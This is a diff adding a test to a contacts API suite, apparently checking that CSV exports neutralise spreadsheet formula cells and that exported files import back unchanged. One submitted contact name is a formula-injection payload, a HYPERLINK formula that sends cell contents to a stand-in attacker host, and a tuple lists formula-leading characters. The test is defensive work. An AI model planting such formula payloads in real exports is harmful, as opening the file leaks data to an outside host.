@@ -355,6 +355,73 @@ async def test_another_venue_is_never_exported_nor_changed_by_an_import(contacts
     assert (in_a_now["id"], in_a_now["name"]) == (in_a["id"], "Shared Person")
 
 
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+async def test_formula_cells_are_exported_neutralised_and_import_back_to_the_same_values(contacts):
+    _, admin = await contacts.new_venue()
+    key = (
+        await contacts.client.get("/api/v1/contacts/intake-key", headers=contacts.headers(admin))
+    ).json()["key"]
+    hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
+    submitted = await contacts.client.post(
+        f"/api/v1/intake/{key}",
+        json={"name": hyperlink, "email": "mallory@example.com", "message": "@SUM(1+1)"},
+        headers={"X-Forwarded-For": "203.0.113.77"},
+    )
+    assert submitted.status_code == 202, submitted.text
+    quoted = await contacts.client.post(
+        f"/api/v1/intake/{key}",
+        json={"name": "'=x", "email": "quote@example.com"},
+        headers={"X-Forwarded-For": "203.0.113.78"},
+    )
+    assert quoted.status_code == 202, quoted.text
+    data = (
+        "name,email,phone,customFields\n"
+        '\'=already quoted,quoted@example.com,"+33 6 12 34 56 78",\n'
+        '-5,minus@example.com,+44 20 7946 0958,"{""note"": ""=1+1""}"\n'
+        "@,at@example.com,,\n"
+        "a=b,plain@example.com,'+33 7 00 00 00 01,\n"
+    )
+    assert (await imported(contacts, admin, data))["created"] == 4
+    before = {c["email"]: c for c in await listed(contacts, admin)}
+    assert before["mallory@example.com"]["name"] == hyperlink
+    assert before["quote@example.com"]["name"] == "'=x"
+    # a hand-made file's quoted formula is read as an export writes one
+    assert before["quoted@example.com"]["name"] == "=already quoted"
+    assert before["quoted@example.com"]["phone"] == "+33612345678"
+    assert before["plain@example.com"]["phone"] == "+33700000001"  # a quoted phone, read
+
+    response = await exported(contacts, admin)
+    raw = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
+    assert not [cell for row in raw for cell in row if cell.startswith(FORMULA_STARTS)]
+    cells = {row[2]: row for row in raw[1:]}
+    assert cells["mallory@example.com"][1] == "'" + hyperlink
+    assert cells["quoted@example.com"][1:4] == [
+        "'=already quoted",
+        "quoted@example.com",
+        "'+33612345678",
+    ]
+    assert cells["quote@example.com"][1] == "''=x"
+    assert cells["minus@example.com"][1] == "'-5"
+    assert cells["at@example.com"][1] == "'@"
+    assert cells["plain@example.com"][1] == "a=b"
+
+    # the export imports back exactly: into another venue, the same values
+    _, other = await contacts.new_venue()
+    report = await imported(contacts, other, response.content)
+    assert counts(report) == {"created": 6, "updated": 0, "unchanged": 0, "rejected": 0}
+
+    def values(listing):
+        fields = ("name", "email", "phone", "leadSource", "status", "customFields")
+        return sorted(tuple(json.dumps(c[f]) for f in fields) for c in listing)
+
+    assert values(await listed(contacts, other)) == values(before.values())
+    # and into the same venue: nothing changes
+    again = await imported(contacts, admin, response.content)
+    assert counts(again) == {"created": 0, "updated": 0, "unchanged": 6, "rejected": 0}
+
+
 async def test_export_is_not_taken_for_a_contact_id(contacts):
     _, admin = await contacts.new_venue()
     response = await exported(contacts, admin)
